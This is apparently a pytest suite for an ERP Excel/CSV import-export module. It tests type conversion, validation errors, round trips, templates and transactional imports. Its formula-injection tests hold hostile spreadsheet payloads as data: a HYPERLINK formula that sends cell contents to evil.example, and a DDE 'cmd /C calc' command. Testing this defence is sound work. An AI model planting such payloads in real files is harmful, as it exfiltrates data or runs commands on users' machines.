"""Tests for the core Excel import/export framework (erp.core.excel)."""

import io
from datetime import date, datetime
from decimal import Decimal
from types import SimpleNamespace

import openpyxl
import pytest

from erp.core.excel import (
    FORMULA_PREFIXES,
    CellError,
    Column,
    RowError,
    Spec,
    error_report_workbook,
    export_workbook,
    find_duplicates,
    neutralise,
    read_workbook,
    run_import,
    template_workbook,
)


def _positive(value):
    if value <= 0:
        raise ValueError("must be more than zero")
    return value


def _upper(value):
    return value.upper()


SPEC = Spec(
    name="skus",
    title="SKUs",
    columns=(
        Column("code", "SKU code", required=True, unique=True, validator=_upper,
               help="Your own code"),
        Column("barcode", "Barcode"),
        Column("weight", "Weight (g)", type="int", validator=_positive),
        Column("cost", "Unit cost", type="decimal", decimals=4),
        Column("since", "Available from", type="date"),
        Column("active", "Active", type="bool"),
        Column("kind", "Kind", choices=("Simple", "Bundle")),
    ),
)
HEADERS = [column.header for column in SPEC.columns]


def xlsx(rows, title="SKUs"):
    """Build an .xlsx upload with openpyxl from a list of rows (lists of cell values)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def load(data):
    """Open workbook bytes with openpyxl."""
    return openpyxl.load_workbook(io.BytesIO(data))


def error_map(errors):
    """Return {(row, column): message} for comparing errors."""
    return {(error.row, error.column): error.message for error in errors}


class FakeTransaction:
    """A context manager factory recording whether it committed or rolled back."""

    def __init__(self):
        """Start with no transaction opened."""
        self.events = []

    def __call__(self):
        """Open a transaction."""
        self.events.append("begin")
        return self

    def __enter__(self):
        """Enter the transaction."""
        return self

    def __exit__(self, exc_type, exc, tb):
        """Record the outcome; never swallow the exception."""
        self.events.append("commit" if exc_type is None else f"rollback:{exc_type.__name__}")
        return False


# --------------------------------------------------------------------------- declarations


def test_column_with_unknown_type_fails():
    """A typo in a column type fails when the spec is declared."""
    with pytest.raises(ValueError, match="unknown type"):
        Column("x", "X", type="float")


def test_spec_with_duplicate_column_names_fails():
    """Two columns answering to the same header would make uploads ambiguous."""
    with pytest.raises(ValueError, match="used twice"):
        Spec("x", "X", (Column("code", "Code"), Column("sku", "code")))


def test_spec_column_lookup():
    """Spec.column finds a column by key and raises KeyError otherwise."""
    assert SPEC.column("weight").header == "Weight (g)"
    with pytest.raises(KeyError):
        SPEC.column("nope")


def test_cell_error_text_names_row_and_column():
    """A CellError reads as the user needs it."""
    assert str(CellError(7, "Weight (g)", "must be a whole number, got 12.5")) == (
        'Row 7, column "Weight (g)": must be a whole number, got 12.5')
    assert str(CellError(3, "", "duplicate order")) == "Row 3: duplicate order"
    assert str(CellError(0, "", "unreadable")) == "unreadable"


# --------------------------------------------------------------------------- neutralise


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_neutralise_dangerous_prefix(prefix):
    """Every prefix a spreadsheet may run as a formula gets an apostrophe."""
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("value", ["SKU-1", "a=b", "", " =x", 12, None, Decimal("-1")])
def test_neutralise_leaves_safe_values_alone(value):
    """Safe text and non-text values are returned unchanged."""
    assert neutralise(value) == value


# --------------------------------------------------------------------------- export


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_export_neutralises_formula_injection(prefix):
    """A dangerous string is exported as plain text with an apostrophe, never a formula."""
    payload = prefix + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
    data = export_workbook(SPEC, [{"code": payload, "barcode": payload, "kind": payload}])
    sheet = load(data)["SKUs"]
    for cell in sheet[2][:2] + (sheet["G2"],):
        assert cell.data_type == "s"
        # openpyxl leaves Excel's escape of a CR (_x000D_) in inline strings undecoded
        assert cell.value.replace("_x000D_", "\r") == "'" + payload
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # calamine decodes the escape; the import gives back exactly what was exported
    again = read_workbook(export_workbook(SPEC, [{"code": "a", "barcode": payload}]), SPEC)
    assert again.rows[0]["barcode"] == payload


def test_export_adhoc_headers_neutralise_and_never_write_formulas():
    """Ad-hoc list exports, given (key, header) pairs, are just as safe."""
    rows = [{"name": "=1+1", "qty": 3}, {"name": "@SUM(A1)", "qty": -2}]
    sheet = load(export_workbook([("name", "Name"), ("qty", "Quantity")], rows,
                                 title="Stock"))["Stock"]
    assert [c.value for c in sheet[1]] == ["Name", "Quantity"]
    assert sheet["A2"].value == "'=1+1"
    assert sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "'@SUM(A1)"
    assert sheet["B3"].value == -2  # numbers stay numbers, even negative ones


def test_export_layout_and_number_formats():
    """Bold frozen header, autofilter, widths and per-type number formats."""
    rows = [{"code": "A1", "weight": 219, "cost": Decimal("1.2345"),
             "since": date(2026, 1, 31), "active": True}]
    sheet = load(export_workbook(SPEC, rows))["SKUs"]
    assert [c.value for c in sheet[1]] == HEADERS
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G2"
    assert sheet.column_dimensions["A"].width >= 16
    assert sheet["C2"].number_format == "0"
    assert sheet["D2"].number_format == "0.0000"
    assert sheet["D2"].value == pytest.approx(1.2345)
    assert sheet["E2"].number_format == "yyyy-mm-dd"
    assert sheet["E2"].value == datetime(2026, 1, 31)
    assert sheet["F2"].value is True


def test_export_reads_objects_and_sequences():
    """Rows may be objects (attributes, dotted paths) or plain sequences."""
    columns = [Column("code", "Code"), Column("supplier.name", "Supplier")]
    objects = [SimpleNamespace(code="A", supplier=SimpleNamespace(name="ACME")),
               SimpleNamespace(code="B", supplier=None)]
    sheet = load(export_workbook(columns, objects))["Export"]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        ["A", "ACME"], ["B", None]]
    sheet = load(export_workbook([("a", "A"), ("b", "B")], [("x", 1), ["y", 2.5]]))["Export"]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        ["x", 1], ["y", 2.5]]


def test_export_without_columns_fails():
    """An export needs columns."""
    with pytest.raises(ValueError, match="at least one column"):
        export_workbook([], [])


# --------------------------------------------------------------------------- round trip


def test_round_trip_every_type():
    """What an export writes, an import reads back unchanged, type by type."""
    rows = [
        {"code": "A-1", "barcode": "0012345678905", "weight": 219, "cost": Decimal("0.1000"),
         "since": date(2026, 1, 31), "active": True, "kind": "Simple"},
        {"code": "B-2", "barcode": "-5", "weight": 1, "cost": Decimal("12.3456"),
         "since": None, "active": False, "kind": "Bundle"},
        {"code": "C-3", "barcode": "=1+1", "weight": None, "cost": None,
         "since": date(1999, 12, 31), "active": None, "kind": None},
    ]
    result = read_workbook(export_workbook(SPEC, rows), SPEC)
    assert result.ok, result.errors
    assert [{k: v for k, v in row.items() if k != "_row"} for row in result.rows] == rows
    assert [row["_row"] for row in result.rows] == [2, 3, 4]
    assert result.present == tuple(column.key for column in SPEC.columns)


def test_round_trip_20000_rows():
    """A large export is read back completely and exactly."""
    rows = [{"code": f"SKU-{i:05d}", "barcode": f"{i:013d}", "weight": i + 1,
             "cost": Decimal(i) / 100, "since": date(2026, 1, 1 + i % 28),
             "active": i % 2 == 0, "kind": "Simple"} for i in range(20_000)]
    result = read_workbook(export_workbook(SPEC, rows), SPEC)
    assert result.ok, result.errors[:3]
    assert len(result.rows) == 20_000
    assert result.rows[-1] == {"_row": 20_001, **rows[-1]}
    assert result.rows[12_345]["cost"] == Decimal("123.45")


# --------------------------------------------------------------------------- conversion


def test_calamine_whole_floats_become_int_and_text():
    """Numeric 219 in an int column is 219, numeric 12345 in a text column is "12345"."""
    result = read_workbook(xlsx([["SKU code", "Barcode", "Weight (g)"],
                                 ["a1", 12345, 219],
                                 ["a2", 4006381333931, 1.0]]), SPEC)
    assert result.ok, result.errors
    first, second = result.rows
    assert first["weight"] == 219
    assert type(first["weight"]) is int
    assert first["barcode"] == "12345"
    assert first["code"] == "A1"  # the validator normalised it
    assert second["barcode"] == "4006381333931"
    assert second["weight"] == 1


def test_int_column_rejects_fractions_and_text():
    """Whole-number columns name the bad value."""
    result = read_workbook(xlsx([["SKU code", "Weight (g)"],
                                 ["a", 219.5], ["b", "12.5"], ["c", "1,234"], ["d", True],
                                 ["e", "219.0"], ["f", -3]]), SPEC)
    assert error_map(result.errors) == {
        (2, "Weight (g)"): "must be a whole number, got 219.5",
        (3, "Weight (g)"): "must be a whole number, got 12.5",
        (4, "Weight (g)"): 'must be a whole number, got "1,234"',
        (5, "Weight (g)"): "must be a whole number, got TRUE",
        (7, "Weight (g)"): "must be more than zero",
    }
    assert [(row["_row"], row["weight"]) for row in result.rows] == [(6, 219)]


def test_text_column_rejects_numbers_excel_rounded():
    """A 16-digit number typed into Excel has lost digits: say so instead of importing it."""
    result = read_workbook(xlsx([["SKU code", "Barcode"], ["a", 1234567890123456]]), SPEC)
    assert list(error_map(result.errors)) == [(2, "Barcode")]
    assert "more than 15 digits" in result.errors[0].message


def test_decimals_are_exact():
    """Decimals come from the cell's digits, never from float arithmetic."""
    result = read_workbook(xlsx([["SKU code", "Unit cost"], ["a", 0.1], ["b", 0.2],
                                 ["c", 0.1 + 0.2], ["d", "1234.5678"], ["e", 7]]), SPEC)
    assert result.ok, result.errors
    costs = [row["cost"] for row in result.rows]
    assert all(isinstance(cost, Decimal) for cost in costs)
    assert costs[0] + costs[1] == Decimal("0.3")
    assert costs[2] == Decimal("0.3")  # Excel keeps 15 significant digits
    assert costs[3] == Decimal("1234.5678")
    assert costs[4] == Decimal(7)


def test_decimal_column_rejects_text_and_comma():
    """A comma decimal separator gets a hint; other text is rejected."""
    result = read_workbook(xlsx([["SKU code", "Unit cost"], ["a", "1,5"], ["b", "abc"],
                                 ["c", "NaN"]]), SPEC)
    assert error_map(result.errors) == {
        (2, "Unit cost"): 'must be a number (use a dot as the decimal separator), got "1,5"',
        (3, "Unit cost"): 'must be a number, got "abc"',
        (4, "Unit cost"): 'must be a number, got "NaN"',
    }


def test_dates_from_cells_and_iso_text():
    """Date cells, datetime cells and ISO text are dates; other text is an error."""
    result = read_workbook(xlsx([["SKU code", "Available from"],
                                 ["a", date(2026, 1, 31)], ["b", datetime(2026, 2, 1, 13, 5)],
                                 ["c", "2026-03-01"], ["d", "31/01/2026"], ["e", "2026-02-30"]]),
                           SPEC)
    assert [row["since"] for row in result.rows] == [
        date(2026, 1, 31), date(2026, 2, 1), date(2026, 3, 1)]
    assert error_map(result.errors) == {
        (5, "Available from"): 'must be a date as YYYY-MM-DD, got "31/01/2026"',
        (6, "Available from"): 'must be a date as YYYY-MM-DD, got "2026-02-30"',
    }


@pytest.mark.parametrize(("cell", "expected"), [
    ("yes", True), ("Y", True), ("TRUE", True), ("1", True), (1, True), (True, True),
    ("no", False), ("n", False), ("False", False), ("0", False), (0, False), (False, False),
])
def test_bool_words(cell, expected):
    """Yes/no columns accept the usual spellings and Excel booleans."""
    result = read_workbook(xlsx([["SKU code", "Active"], ["a", cell]]), SPEC)
    assert result.ok, result.errors
    assert result.rows[0]["active"] is expected


def test_bool_rejects_other_words():
    """Anything else in a yes/no column is an error."""
    result = read_workbook(xlsx([["SKU code", "Active"], ["a", "maybe"], ["b", 2]]), SPEC)
    assert error_map(result.errors) == {(2, "Active"): 'must be yes or no, got "maybe"',
                                        (3, "Active"): "must be yes or no, got 2"}


def test_choices_match_case_insensitively_and_normalise():
    """Choices are matched ignoring case and returned as declared."""
    result = read_workbook(xlsx([["SKU code", "Kind"], ["a", " bundle "], ["b", "SIMPLE"],
                                 ["c", "kit"]]), SPEC)
    assert [row["kind"] for row in result.rows] == ["Bundle", "Simple"]
    assert error_map(result.errors) == {(4, "Kind"): 'must be one of: Simple, Bundle; got "kit"'}


def test_required_and_validator_errors_are_all_collected():
    """Every error of every row is reported with its row and column; good rows survive."""
    result = read_workbook(xlsx([HEADERS,
                                 ["ok", None, 10],
                                 [None, "x", 12.5, "abc"],
                                 ["  ", None, 0, None, None, "perhaps"],
                                 ["ok2", None, 5]]), SPEC)
    assert error_map(result.errors) == {
        (3, "SKU code"): "is required",
        (3, "Weight (g)"): "must be a whole number, got 12.5",
        (3, "Unit cost"): 'must be a number, got "abc"',
        (4, "SKU code"): "is required",
        (4, "Weight (g)"): "must be more than zero",
        (4, "Active"): 'must be yes or no, got "perhaps"',
    }
    assert [row["code"] for row in result.rows] == ["OK", "OK2"]
    assert not result.ok


def test_text_is_stripped_and_neutralised_text_restored():
    """Cells are trimmed, and an exported apostrophe guard is removed on the way back."""
    result = read_workbook(xlsx([["SKU code", "Barcode"], ["  a  ", "'+44 20 7946 0000"],
                                 ["b", "'plain"]]), SPEC)
    assert [(row["code"], row["barcode"]) for row in result.rows] == [
        ("A", "+44 20 7946 0000"), ("B", "'plain")]


# --------------------------------------------------------------------------- structure


def test_headers_match_loosely_keys_accepted_unknown_ignored():
    """Headers ignore case and spacing, keys work as headers, extra columns are ignored."""
    result = read_workbook(xlsx([["  sku   CODE ", "weight", "Notes"], ["a", 3, "n/a"]]), SPEC)
    assert result.ok, result.errors
    assert result.present == ("code", "weight")
    assert result.rows == [{"_row": 2, "code": "A", "weight": 3, "barcode": None,
                            "cost": None, "since": None, "active": None, "kind": None}]


def test_missing_required_header_is_one_error_and_no_rows():
    """A missing required column stops the import before any row is read."""
    result = read_workbook(xlsx([["Barcode", "Weight (g)"], ["1", 2]]), SPEC)
    assert result.rows == []
    assert error_map(result.errors) == {(1, ""): 'missing required columns: "SKU code"'}


def test_duplicate_header_is_an_error():
    """The same column twice is ambiguous."""
    result = read_workbook(xlsx([["SKU code", "code"], ["a", "b"]]), SPEC)
    assert error_map(result.errors) == {(1, ""): 'the column "SKU code" appears twice'}


def test_title_rows_above_the_header_keep_row_numbers():
    """A title line above the header is skipped and rows keep their sheet numbers."""
    result = read_workbook(xlsx([["Price list March"], [], ["SKU code", "Weight (g)"],
                                 ["a", 1], ["b", "x"]]), SPEC)
    assert [row["_row"] for row in result.rows] == [4]
    assert error_map(result.errors) == {(5, "Weight (g)"): 'must be a whole number, got "x"'}


def test_blank_rows_are_skipped():
    """Fully blank rows (including cells holding spaces) are skipped, numbering unchanged."""
    result = read_workbook(xlsx([["SKU code", "Weight (g)"], ["a", 1], [None, None],
                                 ["   ", ""], ["b", 2]]), SPEC)
    assert result.ok, result.errors
    assert [(row["_row"], row["code"]) for row in result.rows] == [(2, "A"), (5, "B")]


def test_empty_sheet_and_header_only_are_errors():
    """An empty file or one without data rows is reported, not silently accepted."""
    assert "empty" in read_workbook(xlsx([]), SPEC).errors[0].message
    result = read_workbook(xlsx([["SKU code"]]), SPEC)
    assert error_map(result.errors) == {(1, ""): "the file has no data rows below the header"}


def test_sheet_named_like_the_spec_is_preferred():
    """A workbook with several sheets is read from the one titled like the spec."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["Notes"])
    workbook.create_sheet("skus").append(["SKU code"])
    workbook["skus"].append(["a"])
    output = io.BytesIO()
    workbook.save(output)
    assert [row["code"] for row in read_workbook(output.getvalue(), SPEC).rows] == ["A"]


def test_max_rows_enforced():
    """More data rows than the spec allows is a file-level error."""
    small = Spec("s", "S", (Column("code", "Code"),), max_rows=3)
    assert read_workbook(xlsx([["Code"], ["a"], ["b"], ["c"]]), small).ok
    result = read_workbook(xlsx([["Code"], ["a"], ["b"], [None], ["c"], ["d"]]), small)
    assert result.rows == []
    assert error_map(result.errors) == {
        (0, ""): "the file has more than 3 data rows; split it into smaller files"}


def test_unreadable_uploads_are_errors():
    """Garbage, unknown types and non-UTF-8 CSV give a readable error, not an exception."""
    assert "not a readable Excel" in read_workbook(b"PK\x03\x04junk", SPEC).errors[0].message
    assert "upload an .xlsx" in read_workbook(b"x", SPEC, filename="a.pdf").errors[0].message
    latin1 = "SKU code\nCaf\xe9\n".encode("latin-1")
    assert "UTF-8" in read_workbook(latin1, SPEC, filename="a.csv").errors[0].message


# --------------------------------------------------------------------------- CSV


def test_csv_semicolon_with_bom():
    """Excel's "CSV UTF-8" with semicolons (European locales) is read, BOM and all."""
    text = "SKU code;Weight (g);Unit cost;Available from;Kind\r\n" \
           "é-1;219;0.1;2026-01-31;simple\r\n;;;;\r\n\"b;2\";12.5;x;;\r\n"
    result = read_workbook(b"\xef\xbb\xbf" + text.encode("utf-8"), SPEC, filename="SKUS.CSV")
    assert result.rows == [{"_row": 2, "code": "É-1", "weight": 219, "cost": Decimal("0.1"),
                            "since": date(2026, 1, 31), "kind": "Simple", "barcode": None,
                            "active": None}]
    assert error_map(result.errors) == {(4, "Weight (g)"): "must be a whole number, got 12.5",
                                        (4, "Unit cost"): 'must be a number, got "x"'}


def test_csv_comma_and_tab():
    """Comma and tab delimiters are recognised from the header line."""
    comma = read_workbook(b'SKU code,Barcode\n"a,1",0042\n', SPEC, filename="x.csv")
    assert [(r["code"], r["barcode"]) for r in comma.rows] == [("A,1", "0042")]
    tab = read_workbook(b"SKU code\tWeight (g)\na\t7\n", SPEC, filename="x.csv")
    assert [(r["code"], r["weight"]) for r in tab.rows] == [("A", 7)]


# --------------------------------------------------------------------------- template


def test_template_has_headers_and_help_sheet():
    """The template is the header row plus a Help sheet describing every column."""
    workbook = load(template_workbook(SPEC))
    assert workbook.sheetnames == ["SKUs", "Help"]
    assert [c.value for c in workbook["SKUs"][1]] == HEADERS
    assert workbook["SKUs"]["A1"].comment is not None
    help_rows = [[c.value for c in row] for row in workbook["Help"].iter_rows()]
    assert help_rows[0] == ["Column", "Type", "Required", "Unique", "Allowed values", "Help"]
    assert help_rows[1] == ["SKU code", "text", "yes", "yes", None, "Your own code"]
    assert help_rows[3][:3] == ["Weight (g)", "whole number", "no"]
    assert help_rows[7][4] == "Simple, Bundle"
    empty = read_workbook(template_workbook(SPEC), SPEC)
    assert error_map(empty.errors) == {(1, ""): "the file has no data rows below the header"}


# --------------------------------------------------------------------------- error report


def test_error_report_marks_cells_and_adds_errors_column():
    """Bad cells turn light red; each row's messages land in a last "Errors" column."""
    upload = xlsx([["SKU code", "Weight (g)", "Notes"], ["a", 12.5, "keep me"], ["b", 1],
                   ["c", "x"]])
    errors = [*read_workbook(upload, SPEC).errors, CellError(3, "", "SKU B already exists")]
    sheet = load(error_report_workbook(upload, SPEC, errors))["SKUs"]
    assert [c.value for c in sheet[1]] == ["SKU code", "Weight (g)", "Notes", "Errors"]
    assert sheet["B2"].fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet["B4"].fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet["A2"].fill.fill_type is None
    assert sheet["D2"].value == "Weight (g): must be a whole number, got 12.5"
    assert sheet["D3"].value == "SKU B already exists"
    assert sheet["C2"].value == "keep me"
    # the user fixes the report and uploads it again: the old marks go
    again = load(error_report_workbook(_saved(sheet.parent), SPEC, [CellError(3, "Weight (g)",
                                                                              "too heavy")]))
    sheet = again["SKUs"]
    assert [c.value for c in sheet[1]] == ["SKU code", "Weight (g)", "Notes", "Errors"]
    assert sheet["B2"].fill.fill_type is None
    assert sheet["D2"].value is None
    assert sheet["B3"].fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet["D3"].value == "Weight (g): too heavy"


def _saved(workbook):
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def test_error_report_for_missing_header():
    """Header-level errors go in the Errors header cell."""
    upload = xlsx([["Barcode"], ["1"]])
    sheet = load(error_report_workbook(upload, SPEC, read_workbook(upload, SPEC).errors)).active
    assert sheet["B1"].value == 'Errors\nmissing required columns: "SKU code"'


def test_error_report_from_csv_is_xlsx_and_safe():
    """A CSV upload comes back as .xlsx, with its text never turned into formulas."""
    upload = b"SKU code;Weight (g)\n=cmd|' /C calc'!A0;x\n"
    errors = read_workbook(upload, SPEC, filename="o.csv").errors
    sheet = load(error_report_workbook(upload, SPEC, errors, filename="o.csv"))["SKUs"]
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == "'=cmd|' /C calc'!A0"
    assert sheet["B2"].fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet["C2"].value == 'Weight (g): must be a whole number, got "x"'


# --------------------------------------------------------------------------- run_import


def _apply_recorder(result=None):
    calls = []

    def apply(rows):
        calls.append(rows)
        return result if result is not None else {"created": len(rows)}

    return apply, calls


GOOD = [["SKU code", "Weight (g)"], ["a", 1], ["b", 2]]


def test_run_import_dry_run_never_applies():
    """A dry run validates everything and writes nothing."""
    apply, calls = _apply_recorder()
    checked = []
    result = run_import(xlsx(GOOD), SPEC, apply=apply, dry_run=True,
                        validate_row=lambda row: checked.append(row["code"]))
    assert result.ok
    assert result.dry_run
    assert result.row_count == 2
    assert checked == ["A", "B"]
    assert calls == []
    assert result.created == 0


def test_run_import_with_errors_never_applies():
    """Cell errors, domain errors and in-file duplicates all block the import."""
    apply, calls = _apply_recorder()
    transaction = FakeTransaction()

    def validate(row):
        if row["code"] == "B":
            return [CellError(row["_row"], "SKU code", "already exists")]
        return None

    upload = xlsx([["SKU code", "Weight (g)"], ["a", 1], ["b", 2], ["c", 1.5], [" A ", 3]])
    result = run_import(upload, SPEC, apply=apply, dry_run=False, validate_row=validate,
                        transaction=transaction)
    assert error_map(result.errors) == {
        (3, "SKU code"): "already exists",
        (4, "Weight (g)"): "must be a whole number, got 1.5",
        (5, "SKU code"): '"A" is also in row 2',
    }
    assert [error.row for error in result.errors] == [3, 4, 5]
    assert calls == []
    assert transaction.events == []


def test_run_import_applies_in_transaction():
    """A clean file is applied once, inside the transaction, and the counts are returned."""
    apply, calls = _apply_recorder({"created": 1, "updated": 1, "skipped": 0,
                                    "messages": ["2 SKUs imported"]})
    transaction = FakeTransaction()
    result = run_import(xlsx(GOOD), SPEC, apply=apply, dry_run=False, transaction=transaction)
    assert result.ok
    assert (result.created, result.updated, result.skipped) == (1, 1, 0)
    assert result.messages == ["2 SKUs imported"]
    assert [row["code"] for row in calls[0]] == ["A", "B"]
    assert transaction.events == ["begin", "commit"]


def test_run_import_value_error_rolls_back():
    """A ValueError from apply becomes an error, after the transaction saw it."""
    transaction = FakeTransaction()

    def apply(rows):
        raise ValueError("supplier ACME is blocked")

    result = run_import(xlsx(GOOD), SPEC, apply=apply, dry_run=False, transaction=transaction)
    assert error_map(result.errors) == {(0, ""): "supplier ACME is blocked"}
    assert transaction.events == ["begin", "rollback:ValueError"]
    assert not result.ok
    assert result.created == 0


def test_run_import_row_error_keeps_row_and_column():
    """An exception carrying .row and .column points at the cell."""
    transaction = FakeTransaction()

    def apply(rows):
        raise RowError("no such warehouse", row=rows[1]["_row"], column="SKU code")

    result = run_import(xlsx(GOOD), SPEC, apply=apply, dry_run=False, transaction=transaction)
    assert error_map(result.errors) == {(3, "SKU code"): "no such warehouse"}
    assert transaction.events == ["begin", "rollback:RowError"]


def test_run_import_other_exceptions_propagate_after_rollback():
    """A bug is not turned into a user message; the transaction still rolls back."""
    transaction = FakeTransaction()

    def apply(rows):
        raise KeyError("bug")

    with pytest.raises(KeyError, match="bug"):
        run_import(xlsx(GOOD), SPEC, apply=apply, dry_run=False, transaction=transaction)
    assert transaction.events == ["begin", "rollback:KeyError"]


def test_run_import_custom_error_types_and_validate_row_exceptions():
    """Domain exception types can be declared user errors, in validate_row as well."""

    class DomainError(Exception):
        pass

    def validate(row):
        if row["code"] == "B":
            raise DomainError("SKU B is retired")

    apply, calls = _apply_recorder()
    result = run_import(xlsx(GOOD), SPEC, apply=apply, dry_run=False, validate_row=validate,
                        error_types=(DomainError,))
    assert error_map(result.errors) == {(3, ""): "SKU B is retired"}
    assert calls == []


def test_find_duplicates_ignores_empty_values():
    """Empty values never count as duplicates."""
    rows = [{"_row": 2, "code": None}, {"_row": 3, "code": None}, {"_row": 4, "code": "x"}]
    assert find_duplicates(rows, SPEC) == []
